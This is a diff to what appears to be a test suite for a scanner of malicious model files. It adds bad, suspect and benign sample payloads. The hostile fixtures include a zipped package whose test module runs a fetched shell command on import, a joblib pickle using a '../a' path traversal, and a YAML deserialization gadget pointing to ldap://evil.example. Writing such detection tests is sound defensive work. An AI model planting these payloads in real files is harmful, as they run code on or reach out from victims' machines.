@@ -50,7 +50,17 @@ def _class(base: str, body: str) -> str:
     return f"import os\nclass X({base}):\n    {body}\n"
 
 
+def _beside(name: str) -> bytes:
+    return (
+        b"\x80\x04cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}\x8c\x08filename\x8c"
+        + bytes([len(name)])
+        + name.encode()
+        + b"sb."
+    )
+
+
 BAD_VARIANTS: list[tuple[str, bytes]] = [
+    ("tests.zip", zipped(("pkg/tests/__init__.py", f"import os\nos.system('{FETCHED}')\n".encode()))),
     # notebooks
     ("utf16.ipynb", notebook(cell("!" + FETCHED)).decode().encode("utf-16")),
     ("cell_magic.ipynb", notebook(cell(f"get_ipython().run_cell_magic('bash', '', '{FETCHED}')"))),
@@ -161,6 +171,11 @@ BAD_VARIANTS: list[tuple[str, bytes]] = [
 ]
 
 SUSPECT_VARIANTS: list[tuple[str, bytes]] = [
+    (
+        "arrays_afar.pkl",
+        _beside("../a"),
+    ),
+    ("examples.zip", zipped(("pkg/examples/fetch.py", b"import requests\nrequests.get(input())\n"))),
     ("evaluates.py", b"class EndpointHandler:\n    def __call__(self, data):\n        return eval(data['inputs'])\n"),
     ("java.yaml", b"a: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://evil.example'}\n"),
     ("MLmodel", b"flavors:\n  python_function:\n    loader_module: my_loader\n"),
@@ -173,7 +188,16 @@ SUSPECT_VARIANTS: list[tuple[str, bytes]] = [
     ("boolean.gguf", gguf([("general.architecture", 8, gguf_text("llama")), ("b", 7, b"\x05")])),
 ]
 
+_SHOWN = (
+    b"import os\nhere = \"__import__('os')\"\ndef make(n):\n    exec('def f(x=' + here + '): return ' + n)\nmake('1')\n"
+)
+
 GOOD_VARIANTS: list[tuple[str, bytes]] = [
+    ("built_methods.py", _SHOWN),
+    ("console.py", b"import ctypes\nh = ctypes.windll.kernel32.GetStdHandle(-11)\n"),
+    ("cores.py", b"import subprocess\nn = subprocess.run(['cat', '/proc/cpuinfo'], capture_output=True).stdout\n"),
+    ("arrays_beside.pkl", _beside("a.npy")),
+    ("graph.pkl", b"\x80\x04cnetworkx.classes.graph\nGraph\n)\x81}b."),
     ("str.ipynb", notebook(cell("n = 3\n!python train.py --epochs {n} -o $n\n!nohup python a.py > log.txt 2>&1 &"))),
     ("r.ipynb", _in("R", "library(ggplot2)\nsystem('ls')\n")),
     ("socket.ipynb", notebook(cell("import socket\ns = socket.socket()\nprint(socket.gethostname())"))),
